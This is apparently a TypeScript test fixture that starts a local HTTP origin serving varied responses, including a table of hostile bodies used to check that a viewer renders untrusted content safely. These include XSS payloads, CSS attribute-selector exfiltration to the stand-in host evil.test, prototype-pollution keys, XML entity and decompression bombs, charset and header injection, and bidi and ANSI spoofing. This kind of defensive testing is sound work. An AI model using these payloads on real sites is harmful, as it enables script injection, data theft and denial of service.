// A local origin with responses of every kind that the pages show.
import { createHash } from 'node:crypto';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Duplex } from 'node:stream';
import { brotliCompressSync, crc32, deflateSync, gzipSync } from 'node:zlib';
import { echo } from './rpc';

/** An image of 2 x 2 pixels. */
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAFklEQVR4nGP8z8DAwMDAxMDAwMDAAAANHQEDasKb6QAAAABJRU5ErkJggg==',
  'base64',
);

/** Fake media content. */
export const FILM = Buffer.from(Array.from({ length: 65_536 }, (_, i) => (i * 7 + (i >> 8)) % 256));

/** Script injection payload. */
export const HOSTILE = `<script>window.pwned=1</script><img src=x onerror="window.pwned=1"><svg onload="window.pwned=1">`;

const order = {
  id: 90071992547409931n.toString(),
  items: Array.from({ length: 12 }, (_, i) => ({ sku: `A-${i}`, name: `thing ${i}`, price: i * 1.25, tags: ['x', 'y'] })),
  customer: { name: 'Zoë', address: { city: 'Genève', lines: ['1', '2'] } },
  paid: true,
  note: null,
};

/** Bidirectional control characters, as bytes of a header field. */
const TURNED = Buffer.from('\u202egnp.exe\u2066 \u001b[31mred').toString('latin1').replace(/[\0-\x1f\x7f]/g, '');

/** A fake model that makes tool calls first and then responds; its sub-agent responds at once. */
function model(messages: { role: string; content: unknown }[]): unknown[] {
  const first = JSON.stringify(messages[0]);
  if (first.includes('helper task')) return [{ type: 'text', text: 'the helper is done' }];
  if (messages.length === 1) {
    return [
      { type: 'thinking', thinking: 'a deep thought', signature: 's' },
      { type: 'text', text: `I look around. ${HOSTILE}` },
      { type: 'tool_use', id: 't1', name: 'Bash', input: { command: 'ls -l', description: 'List the files' } },
      { type: 'tool_use', id: 't2', name: 'Task', input: { prompt: 'helper task', description: 'Ask a helper' } },
    ];
  }
  return [{ type: 'text', text: `answer number ${messages.length}` }];
}

const NEST = 100_000;

/** A single-colour image of `side` x `side` pixels: few bytes, but a large bitmap. */
function hugePicture(side: number): Buffer {
  const chunk = (name: string, data: Buffer) => {
    const named = Buffer.concat([Buffer.from(name), data]);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc32(named));
    return Buffer.concat([length, named, sum]);
  };
  // One bit per pixel, greyscale.
  const head = Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0]);
  head.writeUInt32BE(side);
  head.writeUInt32BE(side, 4);
  const rows = deflateSync(Buffer.alloc((Math.ceil(side / 8) + 1) * side));
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10]), chunk('IHDR', head), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))]);
}

/** Bodies that try to run scripts, lie about their type, or exhaust the page. */
export const TRAPS: Record<string, { type: string; body: string | Buffer | (() => Buffer); coding?: string }> = {
  html: { type: 'text/html', body: `<!doctype html><base href="http://evil.test/"><meta http-equiv="refresh" content="0;url=http://evil.test/">${HOSTILE}<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><form action="http://evil.test/"><button autofocus onfocus="window.pwned=1">` },
  svg: { type: 'image/svg+xml', body: `<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned=1"><script>window.pwned=1</script><foreignObject><iframe src="javascript:parent.pwned=1"/></foreignObject></svg>` },
  script: { type: 'text/javascript', body: `window.pwned=1;</script><script>window.pwned=1</script>` },
  markdown: { type: 'text/markdown', body: `![x](x"onerror="window.pwned=1) [click](javascript:window.pwned=1) ${HOSTILE}` },
  ansi: { type: 'text/plain', body: '\u001b]0;owned\u0007\u001b[2J\u001b[31mred\u001b]8;;javascript:window.pwned=1\u0007link\u0000\u0008\u007f' },
  bidi: { type: 'text/plain', body: '\u202e}cod.exe\u202c \u2066admin\u2069 \u200f\u061c שלום مرحبا '.repeat(50) },
  overlong: { type: 'text/plain', body: 'x'.repeat(2_000_000) },
  deep: { type: 'application/json', body: '['.repeat(NEST) + ']'.repeat(NEST) },
  wide: { type: 'application/json', body: `[${'0,'.repeat(100_000)}0]` },
  names: { type: 'application/json', body: `{"__proto__":{"pwned":1},"constructor":${JSON.stringify(HOSTILE)},${JSON.stringify(HOSTILE)}:1}` },
  markup: { type: 'application/xml', body: `<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>${'<a>'.repeat(NEST)}&c;` },
  packed: { type: 'text/plain', body: () => gzipSync(Buffer.alloc(60_000_000)), coding: 'gzip' },
  line: { type: 'application/json', body: `{"a":"${'x'.repeat(10_000_000)}"}` },
  css: { type: 'text/html', body: `<link rel="stylesheet" href="http://evil.test/a.css"><style>@import "http://evil.test/b.css";*{background:url(http://evil.test/c)}input[value^="a"]{background:url(http://evil.test/d)}</style><input value="abc" style="background:url(http://evil.test/e)">` },
  links: { type: 'text/plain', body: `javascript:window.pwned=1 <a href="javascript:window.pwned=1">a</a> [a](javascript:window.pwned=1) data:text/html,<script>opener.pwned=1</script>` },
  nulls: { type: 'text/plain', body: Buffer.from('a\0b\0\0c\r\n\x0b\x0c\x85'.repeat(1000), 'latin1') },
  lying: { type: 'image/png', body: `<html>${HOSTILE}</html>` },
  hidden: { type: 'text/plain', body: `<!doctype html>${HOSTILE}`, coding: 'gzip' },
  odd: { type: `text/html"><script>window.pwned=1</script>; charset="utf-7`, body: `+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-${HOSTILE}` },
  wider: { type: 'text/html; charset=utf-16', body: Buffer.from(HOSTILE, 'utf16le') },
  pixels: { type: 'image/png', body: () => hugePicture(30_000) },
  graph: { type: 'application/graphql', body: `query ${'{a'.repeat(5000)}` },
  pack: { type: 'application/msgpack', body: Buffer.from([0xdf, 0xff, 0xff, 0xff, 0xff, ...Array<number>(2000).fill(0x91)]) },
  proto: { type: 'application/x-protobuf', body: Buffer.from(Array.from({ length: 3000 }, () => [0x0a, 0xff, 0x7f]).flat()) },
  ndjson: { type: 'application/x-ndjson', body: `${JSON.stringify({ [HOSTILE]: HOSTILE })}\n`.repeat(20_000) },
  half: { type: 'application/json', body: Buffer.from([0xff, 0xfe, 0x7b, 0x00, 0x22]) },
  playlist: { type: 'application/vnd.apple.mpegurl', body: `#EXTM3U\n#EXTINF:1e308,\n${HOSTILE}\n` },
  form: { type: 'application/x-www-form-urlencoded', body: `a=${encodeURIComponent(HOSTILE)}&%00=%1b%5b31m&=&&&` },
  parts: { type: 'multipart/mixed; boundary=x', body: `--x\r\nContent-Type: text/html\r\n\r\n${HOSTILE}\r\n--x\r\nno end` },
};

type Answer = (request: IncomingMessage, response: ServerResponse, body: Buffer) => void;

/** A message in the frames of gRPC and Connect. */
function rpcFrame(flags: number, text: string): Buffer {
  const head = Buffer.alloc(5, flags);
  head.writeUInt32BE(Buffer.byteLength(text), 1);
  return Buffer.concat([head, Buffer.from(text)]);
}

/** An event of an AWS event stream. */
function awsEvent(name: string, payload: object): Buffer {
  const header = Buffer.concat([Buffer.from([11]), Buffer.from(':event-type'), Buffer.from([7, 0, name.length]), Buffer.from(name)]);
  const body = Buffer.from(JSON.stringify(payload));
  const prelude = Buffer.alloc(8);
  prelude.writeUInt32BE(16 + header.length + body.length, 0);
  prelude.writeUInt32BE(header.length, 4);
  const summed = (bytes: Buffer) => {
    const sum = Buffer.alloc(4);
    sum.writeUInt32BE(crc32(bytes));
    return Buffer.concat([bytes, sum]);
  };
  return summed(Buffer.concat([summed(prelude), header, body]));
}

const answers: Record<string, Answer> = {
  '/orders': (_, r) => {
    r.writeHead(200, { 'content-type': 'application/json' });
    r.end(JSON.stringify(order).replace(`"${order.id}"`, order.id));
  },
  '/gzip': (_, r) => {
    r.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip' });
    r.end(gzipSync(JSON.stringify({ packed: 'gzip', list: [1, 2, 3] })));
  },
  '/br': (_, r) => {
    r.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'content-encoding': 'br' });
    r.end(brotliCompressSync('<!doctype html><title>packed</title><p>hello'));
  },
  '/picture.png': (_, r) => r.writeHead(200, { 'content-type': 'image/png' }).end(PNG),
  '/false.png': (_, r) => r.writeHead(200, { 'content-type': 'image/png' }).end(HOSTILE),
  '/drawing.svg': (_, r) => r.writeHead(200, { 'content-type': 'image/svg+xml' }).end(`<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned=1"><script>window.pwned=1</script></svg>`),
  '/text': (_, r) => r.writeHead(200, { 'content-type': 'text/plain' }).end('line\n'.repeat(60_000)),
  '/binary': (_, r) => r.writeHead(200, { 'content-type': 'application/octet-stream' }).end(Buffer.from(Array.from({ length: 4096 }, (_, i) => i % 256))),
  '/missing': (_, r) => r.writeHead(404, { 'content-type': 'application/json' }).end('{"error":"not found"}'),
  '/broken': (_, r) => r.writeHead(500, { 'content-type': 'text/plain' }).end('it broke'),
  '/v1/messages': (_, r, body) => {
    const asked = JSON.parse(body.toString()) as { messages: { role: string; content: unknown }[]; system?: string };
    r.writeHead(200, { 'content-type': 'application/json' });
    const read = asked.system?.includes('cold') ? 0 : 2000;
    const usage = { input_tokens: 100, cache_read_input_tokens: read, cache_creation_input_tokens: 2050 - read, output_tokens: 20 };
    r.end(JSON.stringify({ id: `m${asked.messages.length}`, model: 'claude-sonnet-4-5', content: model(asked.messages), stop_reason: 'end_turn', usage }));
  },
  '/page.html': (_, r) => r.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end('<!doctype html><main><h1>Hi</h1><p>a<br>b</p></main>'),
  '/feed.xml': (_, r) => r.writeHead(200, { 'content-type': 'application/xml' }).end(`<?xml version="1.0"?><feed><entry id="1"><title>${'T'.repeat(5)}</title></entry></feed>`),
  '/live.m3u8': (_, r) => r.writeHead(200, { 'content-type': 'application/vnd.apple.mpegurl' }).end('#EXTM3U\n#EXTINF:6,\na.ts\n#EXTINF:4.5,\nb.ts\n#EXT-X-ENDLIST\n'),
  '/connect': (_, r) => r.writeHead(200, { 'content-type': 'application/connect+json' }).end(Buffer.concat([rpcFrame(0, '{"n":41}'), rpcFrame(0, '{"n":42}'), rpcFrame(2, '{"metadata":{}}')])),
  '/bedrock': (_, r) => r.writeHead(200, { 'content-type': 'application/vnd.amazon.eventstream' }).end(Buffer.concat([
    awsEvent('contentBlockDelta', { contentBlockIndex: 0, delta: { text: 'Hel' } }),
    awsEvent('contentBlockDelta', { contentBlockIndex: 0, delta: { text: `lo ${HOSTILE}` } }),
    awsEvent('messageStop', { stopReason: 'end_turn' }),
  ])),
  '/pack': (_, r) => r.writeHead(200, { 'content-type': 'application/msgpack' }).end(Buffer.from([0x82, 0xa1, 0x61, 0x01, 0xa1, 0x62, 0x93, 0xc3, 0xc0, 0xa2, 0x68, 0x69])),
  '/proto': (_, r) => r.writeHead(200, { 'content-type': 'application/x-protobuf' }).end(Buffer.from([0x08, 0x96, 0x01, 0x12, 0x03, 0x61, 0x62, 0x63])),
  '/film.mp4': (q, r) => {
    const [, from, to] = /bytes=(\d+)-(\d*)/.exec(q.headers['range'] ?? '') ?? [];
    const part = FILM.subarray(Number(from ?? 0), to ? Number(to) + 1 : FILM.length);
    const range = from === undefined ? {} : { 'content-range': `bytes ${from}-${Number(from) + part.length - 1}/${FILM.length}` };
    r.writeHead(from === undefined ? 200 : 206, { 'content-type': 'video/mp4', 'accept-ranges': 'bytes', 'content-length': part.length, ...range });
    r.end(part);
  },
  '/long.mp4': (_, r) => {
    r.writeHead(200, { 'content-type': 'video/mp4', 'content-length': FILM.length * 40 });
    let n = 0;
    const timer = setInterval(() => {
      n += 1;
      r.write(FILM);
      if (n === 40) {
        clearInterval(timer);
        r.end();
      }
    }, 150);
    r.on('close', () => clearInterval(timer));
  },
  '/show/master.m3u8': (_, r) => r.writeHead(200, { 'content-type': 'application/vnd.apple.mpegurl' }).end('#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=800000\nlow/index.m3u8\n'),
  '/show/low/index.m3u8': (_, r) => r.writeHead(200, { 'content-type': 'application/vnd.apple.mpegurl' }).end('#EXTM3U\n#EXT-X-TARGETDURATION:6\n#EXTINF:6,\none.ts\n#EXTINF:6,\ntwo.ts\n#EXT-X-ENDLIST\n'),
  '/show/low/one.ts': (q, r) => r.writeHead(q.headers['referer'] === 'https://films.test/' ? 200 : 403, { 'content-type': 'video/mp2t' }).end(FILM.subarray(0, 5000)),
  '/show/low/two.ts': (_, r) => r.writeHead(200, { 'content-type': 'video/mp2t' }).end(FILM.subarray(5000, 9000)),
  '/huge.json': (_, r) => r.writeHead(200, { 'content-type': 'application/json' }).end(`[${'{"name":"thing","price":12.5},'.repeat(1_700_000)}0]`),
  '/huge.txt': (_, r) => r.writeHead(200, { 'content-type': 'text/plain' }).end('a line of some length, again and again\n'.repeat(1_300_000)),
  '/moved': (_, r) => r.writeHead(302, { location: '/orders' }).end(),
  '/slow': (_, r) => void setTimeout(() => r.writeHead(200, { 'content-type': 'text/plain' }).end('at last'), 300),
  '/cut': (q, r) => {
    r.writeHead(200, { 'content-length': '1000' });
    r.write('half');
    setTimeout(() => q.socket.destroy(), 20);
  },
  '/cookies': (_, r) => r.writeHead(200, { 'set-cookie': ['id=1; Path=/; HttpOnly; Max-Age=60', 'other=2; SameSite=None'] }).end(),
  '/echo/table': (_, r) => r.end(),
  '/echo/left': (_, r) => r.end('left'),
  '/echo/right': (_, r) => r.end('right'),
  '/model-events': (_, r) => {
    r.writeHead(200, { 'content-type': 'text/event-stream' });
    const delta = (index: number, value: object) => r.write(`event: content_block_delta\ndata: ${JSON.stringify({ type: 'content_block_delta', index, delta: value })}\n\n`);
    for (const thinking of ['let ', 'me see']) delta(0, { type: 'thinking_delta', thinking });
    for (const text of ['Hello', ', ', 'world']) delta(1, { type: 'text_delta', text });
    r.end('data: [DONE]\n\n');
  },
  '/events': (_, r) => {
    r.writeHead(200, { 'content-type': 'text/event-stream' });
    let n = 0;
    const timer = setInterval(() => {
      n += 1;
      r.write(`event: tick\ndata: {"n":${n}}\n\n`);
      if (n === 12) {
        clearInterval(timer);
        r.end();
      }
    }, 150);
  },
  '/hostile': (_, r) => {
    r.writeHead(200, { 'content-type': 'text/html', 'x-evil': HOSTILE, 'set-cookie': HOSTILE });
    r.end(`<!doctype html><html><body>${HOSTILE}</body></html>`);
  },
  '/hostile.json': (_, r) => r.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ [HOSTILE]: HOSTILE, list: [HOSTILE] })),
  '/echo': (q, r, body) => {
    r.writeHead(200, { 'content-type': q.headers['content-type'] ?? 'text/plain', 'x-test': String(q.headers['x-test'] ?? '') });
    r.end(body);
  },
};

function frame(text: string): Buffer {
  const payload = Buffer.from(text);
  return Buffer.concat([Buffer.from([0x81, payload.length]), payload]);
}

/** A WebSocket that sends three messages and closes half a second later. */
const MANY = 10_000;

function upgrade(request: IncomingMessage, socket: Duplex): void {
  if (request.url?.endsWith('/refused-socket')) {
    socket.end('HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\nconnection: close\r\n\r\n');
    return;
  }
  const key = `${request.headers['sec-websocket-key'] ?? ''}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`;
  const accept = createHash('sha1').update(key).digest('base64');
  socket.write(`HTTP/1.1 101 Switching Protocols\r\nupgrade: websocket\r\nconnection: Upgrade\r\nsec-websocket-accept: ${accept}\r\n\r\n`);
  if (request.url?.endsWith('/echo-socket')) return echo(socket);
  if (request.url?.endsWith('/many-messages')) {
    for (let i = 0; i < MANY; i += 1) socket.write(frame(`message ${i}`));
    socket.end(Buffer.from([0x88, 2, 0x03, 0xe8]));
    socket.on('error', () => undefined);
    return;
  }
  ['hello from the origin', HOSTILE, '{"n":3}'].forEach((text) => socket.write(frame(text)));
  setTimeout(() => socket.end(Buffer.from([0x88, 5, 0x03, 0xe8, 0x62, 0x79, 0x65])), 500);
  socket.on('error', () => undefined);
}

export async function startOrigin(): Promise<{ server: Server; address: string }> {
  const server = createServer((request, response) => {
    const parts: Buffer[] = [];
    request.on('data', (part: Buffer) => parts.push(part));
    request.on('end', () => {
      const path = new URL(request.url ?? '/', 'http://origin').pathname;
      const trap = TRAPS[path.replace('/trap/', '')];
      if (path.startsWith('/trap/') && trap) {
        const coding = trap.coding ? { 'content-encoding': trap.coding } : {};
        response.writeHead(200, { 'content-type': trap.type, 'x-evil': HOSTILE, 'x-long': 'v'.repeat(20_000), [`x-${'n'.repeat(8000)}`]: TURNED, ...coding });
        response.end(typeof trap.body === 'function' ? trap.body() : trap.body);
        return;
      }
      const answer = answers[path] ?? ((_, r) => r.writeHead(200, { 'content-type': 'text/plain' }).end(`hello ${path}`));
      answer(request, response, Buffer.concat(parts));
    });
  });
  server.on('upgrade', upgrade);
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
  return { server, address: `127.0.0.1:${(server.address() as AddressInfo).port}` };
}
